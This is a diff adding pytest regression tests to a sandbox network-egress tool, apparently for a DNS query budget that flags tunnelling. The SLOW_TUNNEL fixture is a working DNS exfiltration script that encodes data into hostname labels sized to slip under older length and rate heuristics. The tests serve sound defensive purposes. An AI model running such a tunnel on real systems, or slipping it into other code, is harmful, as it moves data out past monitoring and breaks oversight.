@@ -816,3 +816,124 @@ def test_request_smuggling_is_refused(egd, net, tier):
             (None, "deny", "bad-http"), ("pypi.test", "allow", "allowlist")], t
         assert sb.violations()["counts"]["egress"] == len(SMUGGLING)
     assert [h for h in net.hits(kind="keepalive")[before:] if h["host"] != "pypi.test"] == []
+
+
+# ---- item 14 of issue 18: a budget of self-chosen DNS names ----
+
+# The red team's tunnel: 600 bytes out through names the sandbox chooses, each
+# under the old thresholds (labels < 50, names < 100, < 50 questions a second).
+SLOW_TUNNEL = r"""
+import base64, os, socket, sys, time
+suffix = sys.argv[1]
+data = base64.b32encode(os.urandom(600)).decode().rstrip("=").lower()
+chunks = [data[i:i + 80] for i in range(0, len(data), 80)]
+for i, c in enumerate(chunks):
+    name = "s%02d.%s.%s.%s" % (i, c[:40], c[40:], suffix)
+    assert len(name) < 100 and max(len(l) for l in name.split(".")) < 50
+    try:
+        socket.getaddrinfo(name, 80, socket.AF_INET)
+    except OSError:
+        pass
+    time.sleep(0.05)
+print(len(chunks))
+"""
+
+# What ordinary work asks: a few fixed hosts, again and again.
+ORDINARY = r"""
+import socket, sys, time
+for _ in range(20):
+    for n in sys.argv[1:]:
+        try:
+            socket.getaddrinfo(n, 443, socket.AF_INET)
+        except OSError:
+            pass
+    time.sleep(0.1)
+print("ok")
+"""
+
+
+def dns_alerts(sb):
+    return [e for e in sb.events() if e["type"] == "alert" and e["source"] == "dns"]
+
+
+@pytest.mark.parametrize("mode", ["wildcard", "open"])
+def test_dns_tunnel_under_the_old_thresholds_is_flagged(egd, net, tier, mode):
+    """600 bytes left through 12 names under an allowed wildcard, or in open
+    mode, with 0 alerts: every label, name and rate was under the long-name and
+    rate heuristics. Seen failing before the fix: no alert at all (the
+    assertion on "dns-budget"), while the fake upstream received every name."""
+    allow, suffix = (["*.pypi.test:80"], "pypi.test") if mode == "wildcard" else ([], "tunnel.test")
+    with make(egd, tier=tier, allow=allow, mode="allowlist" if mode == "wildcard" else "open") as sb:
+        r = sb.exec(["python3", "-c", SLOW_TUNNEL, suffix], timeout_s=60)
+        assert r.exit_code == 0 and int(r.stdout) == 12, r
+        assert len([h for h in net.hits(kind="dns") if h["name"].endswith("." + suffix)
+                    and h["name"].startswith("s")]) >= 12, "the tunnel's names did not reach the upstream"
+        alerts = dns_alerts(sb)
+        assert [a["rule"] for a in alerts] == ["dns-budget"], alerts
+        a = alerts[0]
+        assert a["names"] >= 6 and a["bytes"] > 512 and a["window_s"] == 60, a
+        assert (a["budget_names"], a["budget_bytes"], a["action"]) == (64, 512, "alert"), a
+        assert "last: s" in a["excerpt"], a
+        assert sb.violations()["counts"]["egress"] == 0  # an alert, not a violation, unless configured
+
+
+def test_ordinary_lookups_stay_under_the_dns_budget(egd, net, tier):
+    """A few fixed hosts asked again and again (pip, git): nothing to flag,
+    under a wildcard or in open mode."""
+    with make(egd, tier=tier, allow=["*.pypi.test", "pypi.test", "secure.test"]) as sb:
+        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test"], timeout_s=60)
+        assert r.stdout.strip() == "ok", r
+        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
+        assert dns_alerts(sb) == []
+    with make(egd, tier=tier, allow=[], mode="open") as sb:
+        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test", "evil.test",
+                     "www.evil.test"], timeout_s=60)
+        assert r.stdout.strip() == "ok", r
+        assert dns_alerts(sb) == []
+
+
+def test_dns_budget_refuse_mode(shared_dir, net, tier):
+    """dns_budget = …,action=refuse: new names beyond the budget are REFUSED
+    (they never reach the upstream) and each is an egress violation; names
+    already resolved in the window still are."""
+    state = os.path.join(shared_dir, "state")
+    d = cordonlib.Daemon(shared_dir, "--state-dir", state, "--dns-upstream", fakenet.DNS_IP,
+                         "--dns-budget", "names=4,bytes=400,window=60s,action=refuse")
+    try:
+        with make(d, tier=tier, allow=["*.pypi.test:80", "pypi.test:80"]) as sb:
+            r = sh(sb, "for n in a b c d e f a; do getent ahostsv4 $n.pypi.test >/dev/null; done; "
+                       "getent ahostsv4 pypi.test | head -1")
+            assert r.stdout.split()[:1] == ["203.0.113.10"], r  # an exact entry: never counted
+            dns = [(e["name"], e["decision"], e["reason"]) for e in egress(sb) if e["proto"] == "dns"]
+            refused = {n for n, dec, why in dns if why == "dns-budget"}
+            assert refused == {"e.pypi.test", "f.pypi.test"}, dns
+            assert all(dec == "deny" for n, dec, why in dns if why == "dns-budget"), dns
+            assert {n for n, dec, why in dns if dec == "allow"} == {"a.pypi.test", "b.pypi.test", "c.pypi.test",
+                                                                    "d.pypi.test", "pypi.test"}, dns
+            assert sb.violations()["counts"]["egress"] == sum(why == "dns-budget" for _, _, why in dns)
+            alerts = dns_alerts(sb)
+            assert alerts and alerts[0]["rule"] == "dns-budget" and alerts[0]["action"] == "refuse", alerts
+            assert alerts[0]["names"] == 5, alerts
+    finally:
+        assert d.stop() == 0, d.output()
+    asked = {h["name"] for h in net.hits(kind="dns")}
+    assert "a.pypi.test" in asked and not {"e.pypi.test", "f.pypi.test"} & asked, asked
+
+
+def test_one_shot_run_has_the_dns_budget(shared_dir, net, tier):
+    """`cordon run` counts the same budget ($CORDON_DNS_BUDGET, as cordond's dns_budget)."""
+    state = os.path.join(shared_dir, "state")
+    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
+    argv = [cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=*.pypi.test:80", "--",
+            "python3", "-c", SLOW_TUNNEL, "pypi.test"]
+    p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120)
+    assert p.returncode == 0 and p.stdout.strip() == "12", p
+    assert "egress alert: dns-budget:" in p.stderr, p.stderr
+    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] == 0
+    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=3,action=refuse"),
+                       timeout=120)
+    assert p.returncode == 0, p
+    # 9 names refused (glibc asks again after a REFUSED: each question is one violation)
+    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] >= 9, p.stderr
+    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=999"), timeout=60)
+    assert p.returncode == 125 and "CORDON_DNS_BUDGET: names=999" in p.stderr, p.stderr
